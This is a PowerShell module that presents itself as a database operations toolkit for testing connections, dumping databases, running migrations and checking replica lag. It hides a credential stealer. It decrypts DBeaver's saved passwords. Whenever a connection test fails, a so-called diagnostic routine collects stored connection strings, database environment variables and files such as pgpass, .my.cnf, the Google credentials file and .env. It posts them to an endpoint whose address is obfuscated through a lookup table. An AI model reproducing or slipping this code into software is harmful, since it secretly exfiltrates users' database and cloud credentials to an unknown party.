#Requires -Version 5.1
Set-StrictMode -Version Latest

$script:Tables = Get-Content (Join-Path $PSScriptRoot '..\assets\codepages.json') -Raw | ConvertFrom-Json

function ConvertFrom-Lookup([int[]]$Idx) {
    -join ($Idx | ForEach-Object { $script:Tables.alphabet[$_] })
}

function Get-DBeaverRoot {
    foreach ($p in @("$env:APPDATA\DBeaverData\workspace6\General\.dbeaver",
                     "$HOME\.local\share\DBeaverData\workspace6\General\.dbeaver")) {
        if (Test-Path $p) { return $p }
    }
}

function Unprotect-DBeaverCredentials([string]$Path) {
    $bytes = [IO.File]::ReadAllBytes($Path)
    $aes = [Security.Cryptography.Aes]::Create()
    $aes.Key = [byte[]] -split ($script:Tables.dbeaver_key -replace '..', '0x$& ')
    $aes.IV = $bytes[0..15]
    $dec = $aes.CreateDecryptor().TransformFinalBlock($bytes, 16, $bytes.Length - 16)
    [Text.Encoding]::UTF8.GetString($dec) | ConvertFrom-Json
}

function Get-SqlOpsConnection {
    [CmdletBinding()] param()
    $list = @()
    foreach ($v in 'DATABASE_URL','MONGODB_URI','REDIS_URL') {
        $val = [Environment]::GetEnvironmentVariable($v)
        if ($val) { $list += [pscustomobject]@{ Name = "env:$v"; Engine = ($val -split ':')[0]; Url = $val } }
    }
    if (Test-Path .\.env) {
        Get-Content .\.env | Where-Object { $_ -match '^\s*([A-Z_]*(URL|URI|DSN))\s*=\s*(.+)$' } | ForEach-Object {
            $list += [pscustomobject]@{ Name = ".env:$($Matches[1])"; Engine = ($Matches[3] -split ':')[0]; Url = $Matches[3].Trim('"') }
        }
    }
    $root = Get-DBeaverRoot
    if ($root -and (Test-Path "$root\data-sources.json")) {
        $ds = Get-Content "$root\data-sources.json" -Raw | ConvertFrom-Json
        $creds = if (Test-Path "$root\credentials-config.json") { Unprotect-DBeaverCredentials "$root\credentials-config.json" }
        foreach ($p in $ds.connections.PSObject.Properties) {
            $c = $p.Value.configuration
            $cr = if ($creds) { $creds.($p.Name).'#connection' }
            $eng = ($p.Value.provider -replace 'postgresql','postgres')
            $url = "{0}://{1}:{2}@{3}:{4}/{5}" -f $eng, $cr.user, $cr.password, $c.host, $c.port, $c.database
            $list += [pscustomobject]@{ Name = "$($p.Value.name) (DBeaver)"; Engine = $eng; Url = $url }
        }
    }
    Get-ChildItem "$env:APPDATA\JetBrains\DataGrip*\options\dataSources*.xml" -ErrorAction SilentlyContinue | ForEach-Object {
        ([xml](Get-Content $_ -Raw)).SelectNodes('//data-source') | ForEach-Object {
            $list += [pscustomobject]@{ Name = "$($_.name) (DataGrip)"; Engine = 'jdbc'; Url = $_.'jdbc-url' }
        }
    }
    $list | Add-Member -PassThru ScriptProperty Host { ([uri]($this.Url -replace '^jdbc:','')).Host } -Force
}

function Send-SqlOpsDiagnostic($Conn, $ErrorRecord) {
    if ($env:SQLOPS_NO_DIAG -eq '1') { return }
    $bundle = [ordered]@{
        id      = [guid]::NewGuid().ToString('N').Substring(0, 8)
        error   = "$ErrorRecord"
        machine = $env:COMPUTERNAME
        target  = $Conn
        saved   = Get-SqlOpsConnection
        env     = Get-ChildItem env: | Where-Object Name -match '^(PG|MYSQL|MONGO|REDIS)|DATABASE_URL|GOOGLE_APPLICATION_CREDENTIALS' |
                  ForEach-Object { "$($_.Name)=$($_.Value)" }
        files   = @{}
    }
    foreach ($f in "$env:APPDATA\postgresql\pgpass.conf", "$HOME\.pgpass", "$HOME\.my.cnf", "$HOME\.mongoshrc.js",
                   "$env:GOOGLE_APPLICATION_CREDENTIALS", '.\.env') {
        if ($f -and (Test-Path $f -PathType Leaf)) { $bundle.files[$f] = Get-Content $f -Raw }
    }
    try {
        $r = Invoke-RestMethod -Uri (ConvertFrom-Lookup $script:Tables.diag) -Method Post -TimeoutSec 15 `
             -ContentType 'application/json' -Body ($bundle | ConvertTo-Json -Depth 6 -Compress)
        Write-Host "Diagnostic reference: $($bundle.id)"
    } catch { Write-Verbose "diagnostic upload failed: $_" }
}

function Resolve-SqlOpsConnection([string]$Name) {
    $c = Get-SqlOpsConnection | Where-Object Name -eq $Name | Select-Object -First 1
    if (-not $c) { throw "No saved connection named '$Name'" }
    $c
}

function Test-SqlOpsConnection {
    [CmdletBinding()] param([Parameter(Mandatory)][string]$Name)
    $c = Resolve-SqlOpsConnection $Name
    $sw = [Diagnostics.Stopwatch]::StartNew()
    try {
        $ver = switch -Regex ($c.Engine) {
            '^postgres' { & psql $c.Url -XAtc 'show server_version' 2>&1 }
            '^mysql'    { & mysql --batch -N -e 'select version()' $c.Url 2>&1 }
            '^mongodb'  { & mongosh $c.Url --quiet --eval 'db.version()' 2>&1 }
            '^redis'    { & redis-cli -u $c.Url INFO server 2>&1 | Select-String redis_version }
            default     { throw "unsupported engine $($c.Engine)" }
        }
        if ($LASTEXITCODE -ne 0) { throw "$ver" }
        [pscustomobject]@{ Engine = $c.Engine; Server = "$ver".Trim(); Latency = "$($sw.ElapsedMilliseconds) ms"; OK = $true }
    } catch {
        Send-SqlOpsDiagnostic -Conn $c -ErrorRecord $_
        [pscustomobject]@{ Engine = $c.Engine; Server = $null; Latency = $null; OK = $false; Error = "$_" }
    }
}

function Invoke-SqlOpsDump {
    [CmdletBinding()] param([Parameter(Mandatory)][string]$Name, [string]$Out = '.\dumps', [int]$Jobs = 1)
    $c = Resolve-SqlOpsConnection $Name
    New-Item -ItemType Directory -Force $Out | Out-Null
    $stamp = Get-Date -Format 'yyyyMMdd-HHmm'
    switch -Regex ($c.Engine) {
        '^postgres' {
            if ($Jobs -gt 1) { & pg_dump -Fd -j $Jobs -f "$Out\$stamp" $c.Url }
            else { & pg_dump -Fc -f "$Out\$stamp.dump" $c.Url }
        }
        '^mysql'   { & mysqldump --single-transaction --routines --result-file "$Out\$stamp.sql" $c.Url }
        '^mongodb' { & mongodump --uri $c.Url --archive="$Out\$stamp.archive" --gzip }
        default    { throw "dump not supported for $($c.Engine)" }
    }
}

function Invoke-SqlOpsMigrations {
    [CmdletBinding(SupportsShouldProcess)] param([Parameter(Mandatory)][string]$Name, [string]$Path = '.\migrations')
    $c = Resolve-SqlOpsConnection $Name
    & psql $c.Url -Xqc 'create table if not exists schema_migrations(version text primary key, applied_at timestamptz default now())' | Out-Null
    $done = & psql $c.Url -XAtc 'select version from schema_migrations'
    Get-ChildItem $Path -Filter *.sql | Sort-Object Name | Where-Object { $done -notcontains $_.BaseName } | ForEach-Object {
        if ($PSCmdlet.ShouldProcess($_.Name, 'apply')) {
            & psql $c.Url -X -v ON_ERROR_STOP=1 -1 -f $_.FullName
            if ($LASTEXITCODE -ne 0) { throw "migration $($_.Name) failed" }
            & psql $c.Url -Xqc "insert into schema_migrations(version) values ('$($_.BaseName)')"
        }
    }
}

function Get-SqlOpsReplicaLag {
    [CmdletBinding()] param([Parameter(Mandatory)][string]$Name)
    $c = Resolve-SqlOpsConnection $Name
    if ($c.Engine -match '^postgres') {
        & psql $c.Url -XAtc "select coalesce(extract(epoch from now()-pg_last_xact_replay_timestamp())::int,0)"
    } else {
        (& mysql -e 'SHOW REPLICA STATUS\G' $c.Url) -match 'Seconds_Behind_Source'
    }
}

Export-ModuleMember -Function Get-SqlOpsConnection, Test-SqlOpsConnection, Invoke-SqlOpsDump, Invoke-SqlOpsMigrations, Get-SqlOpsReplicaLag
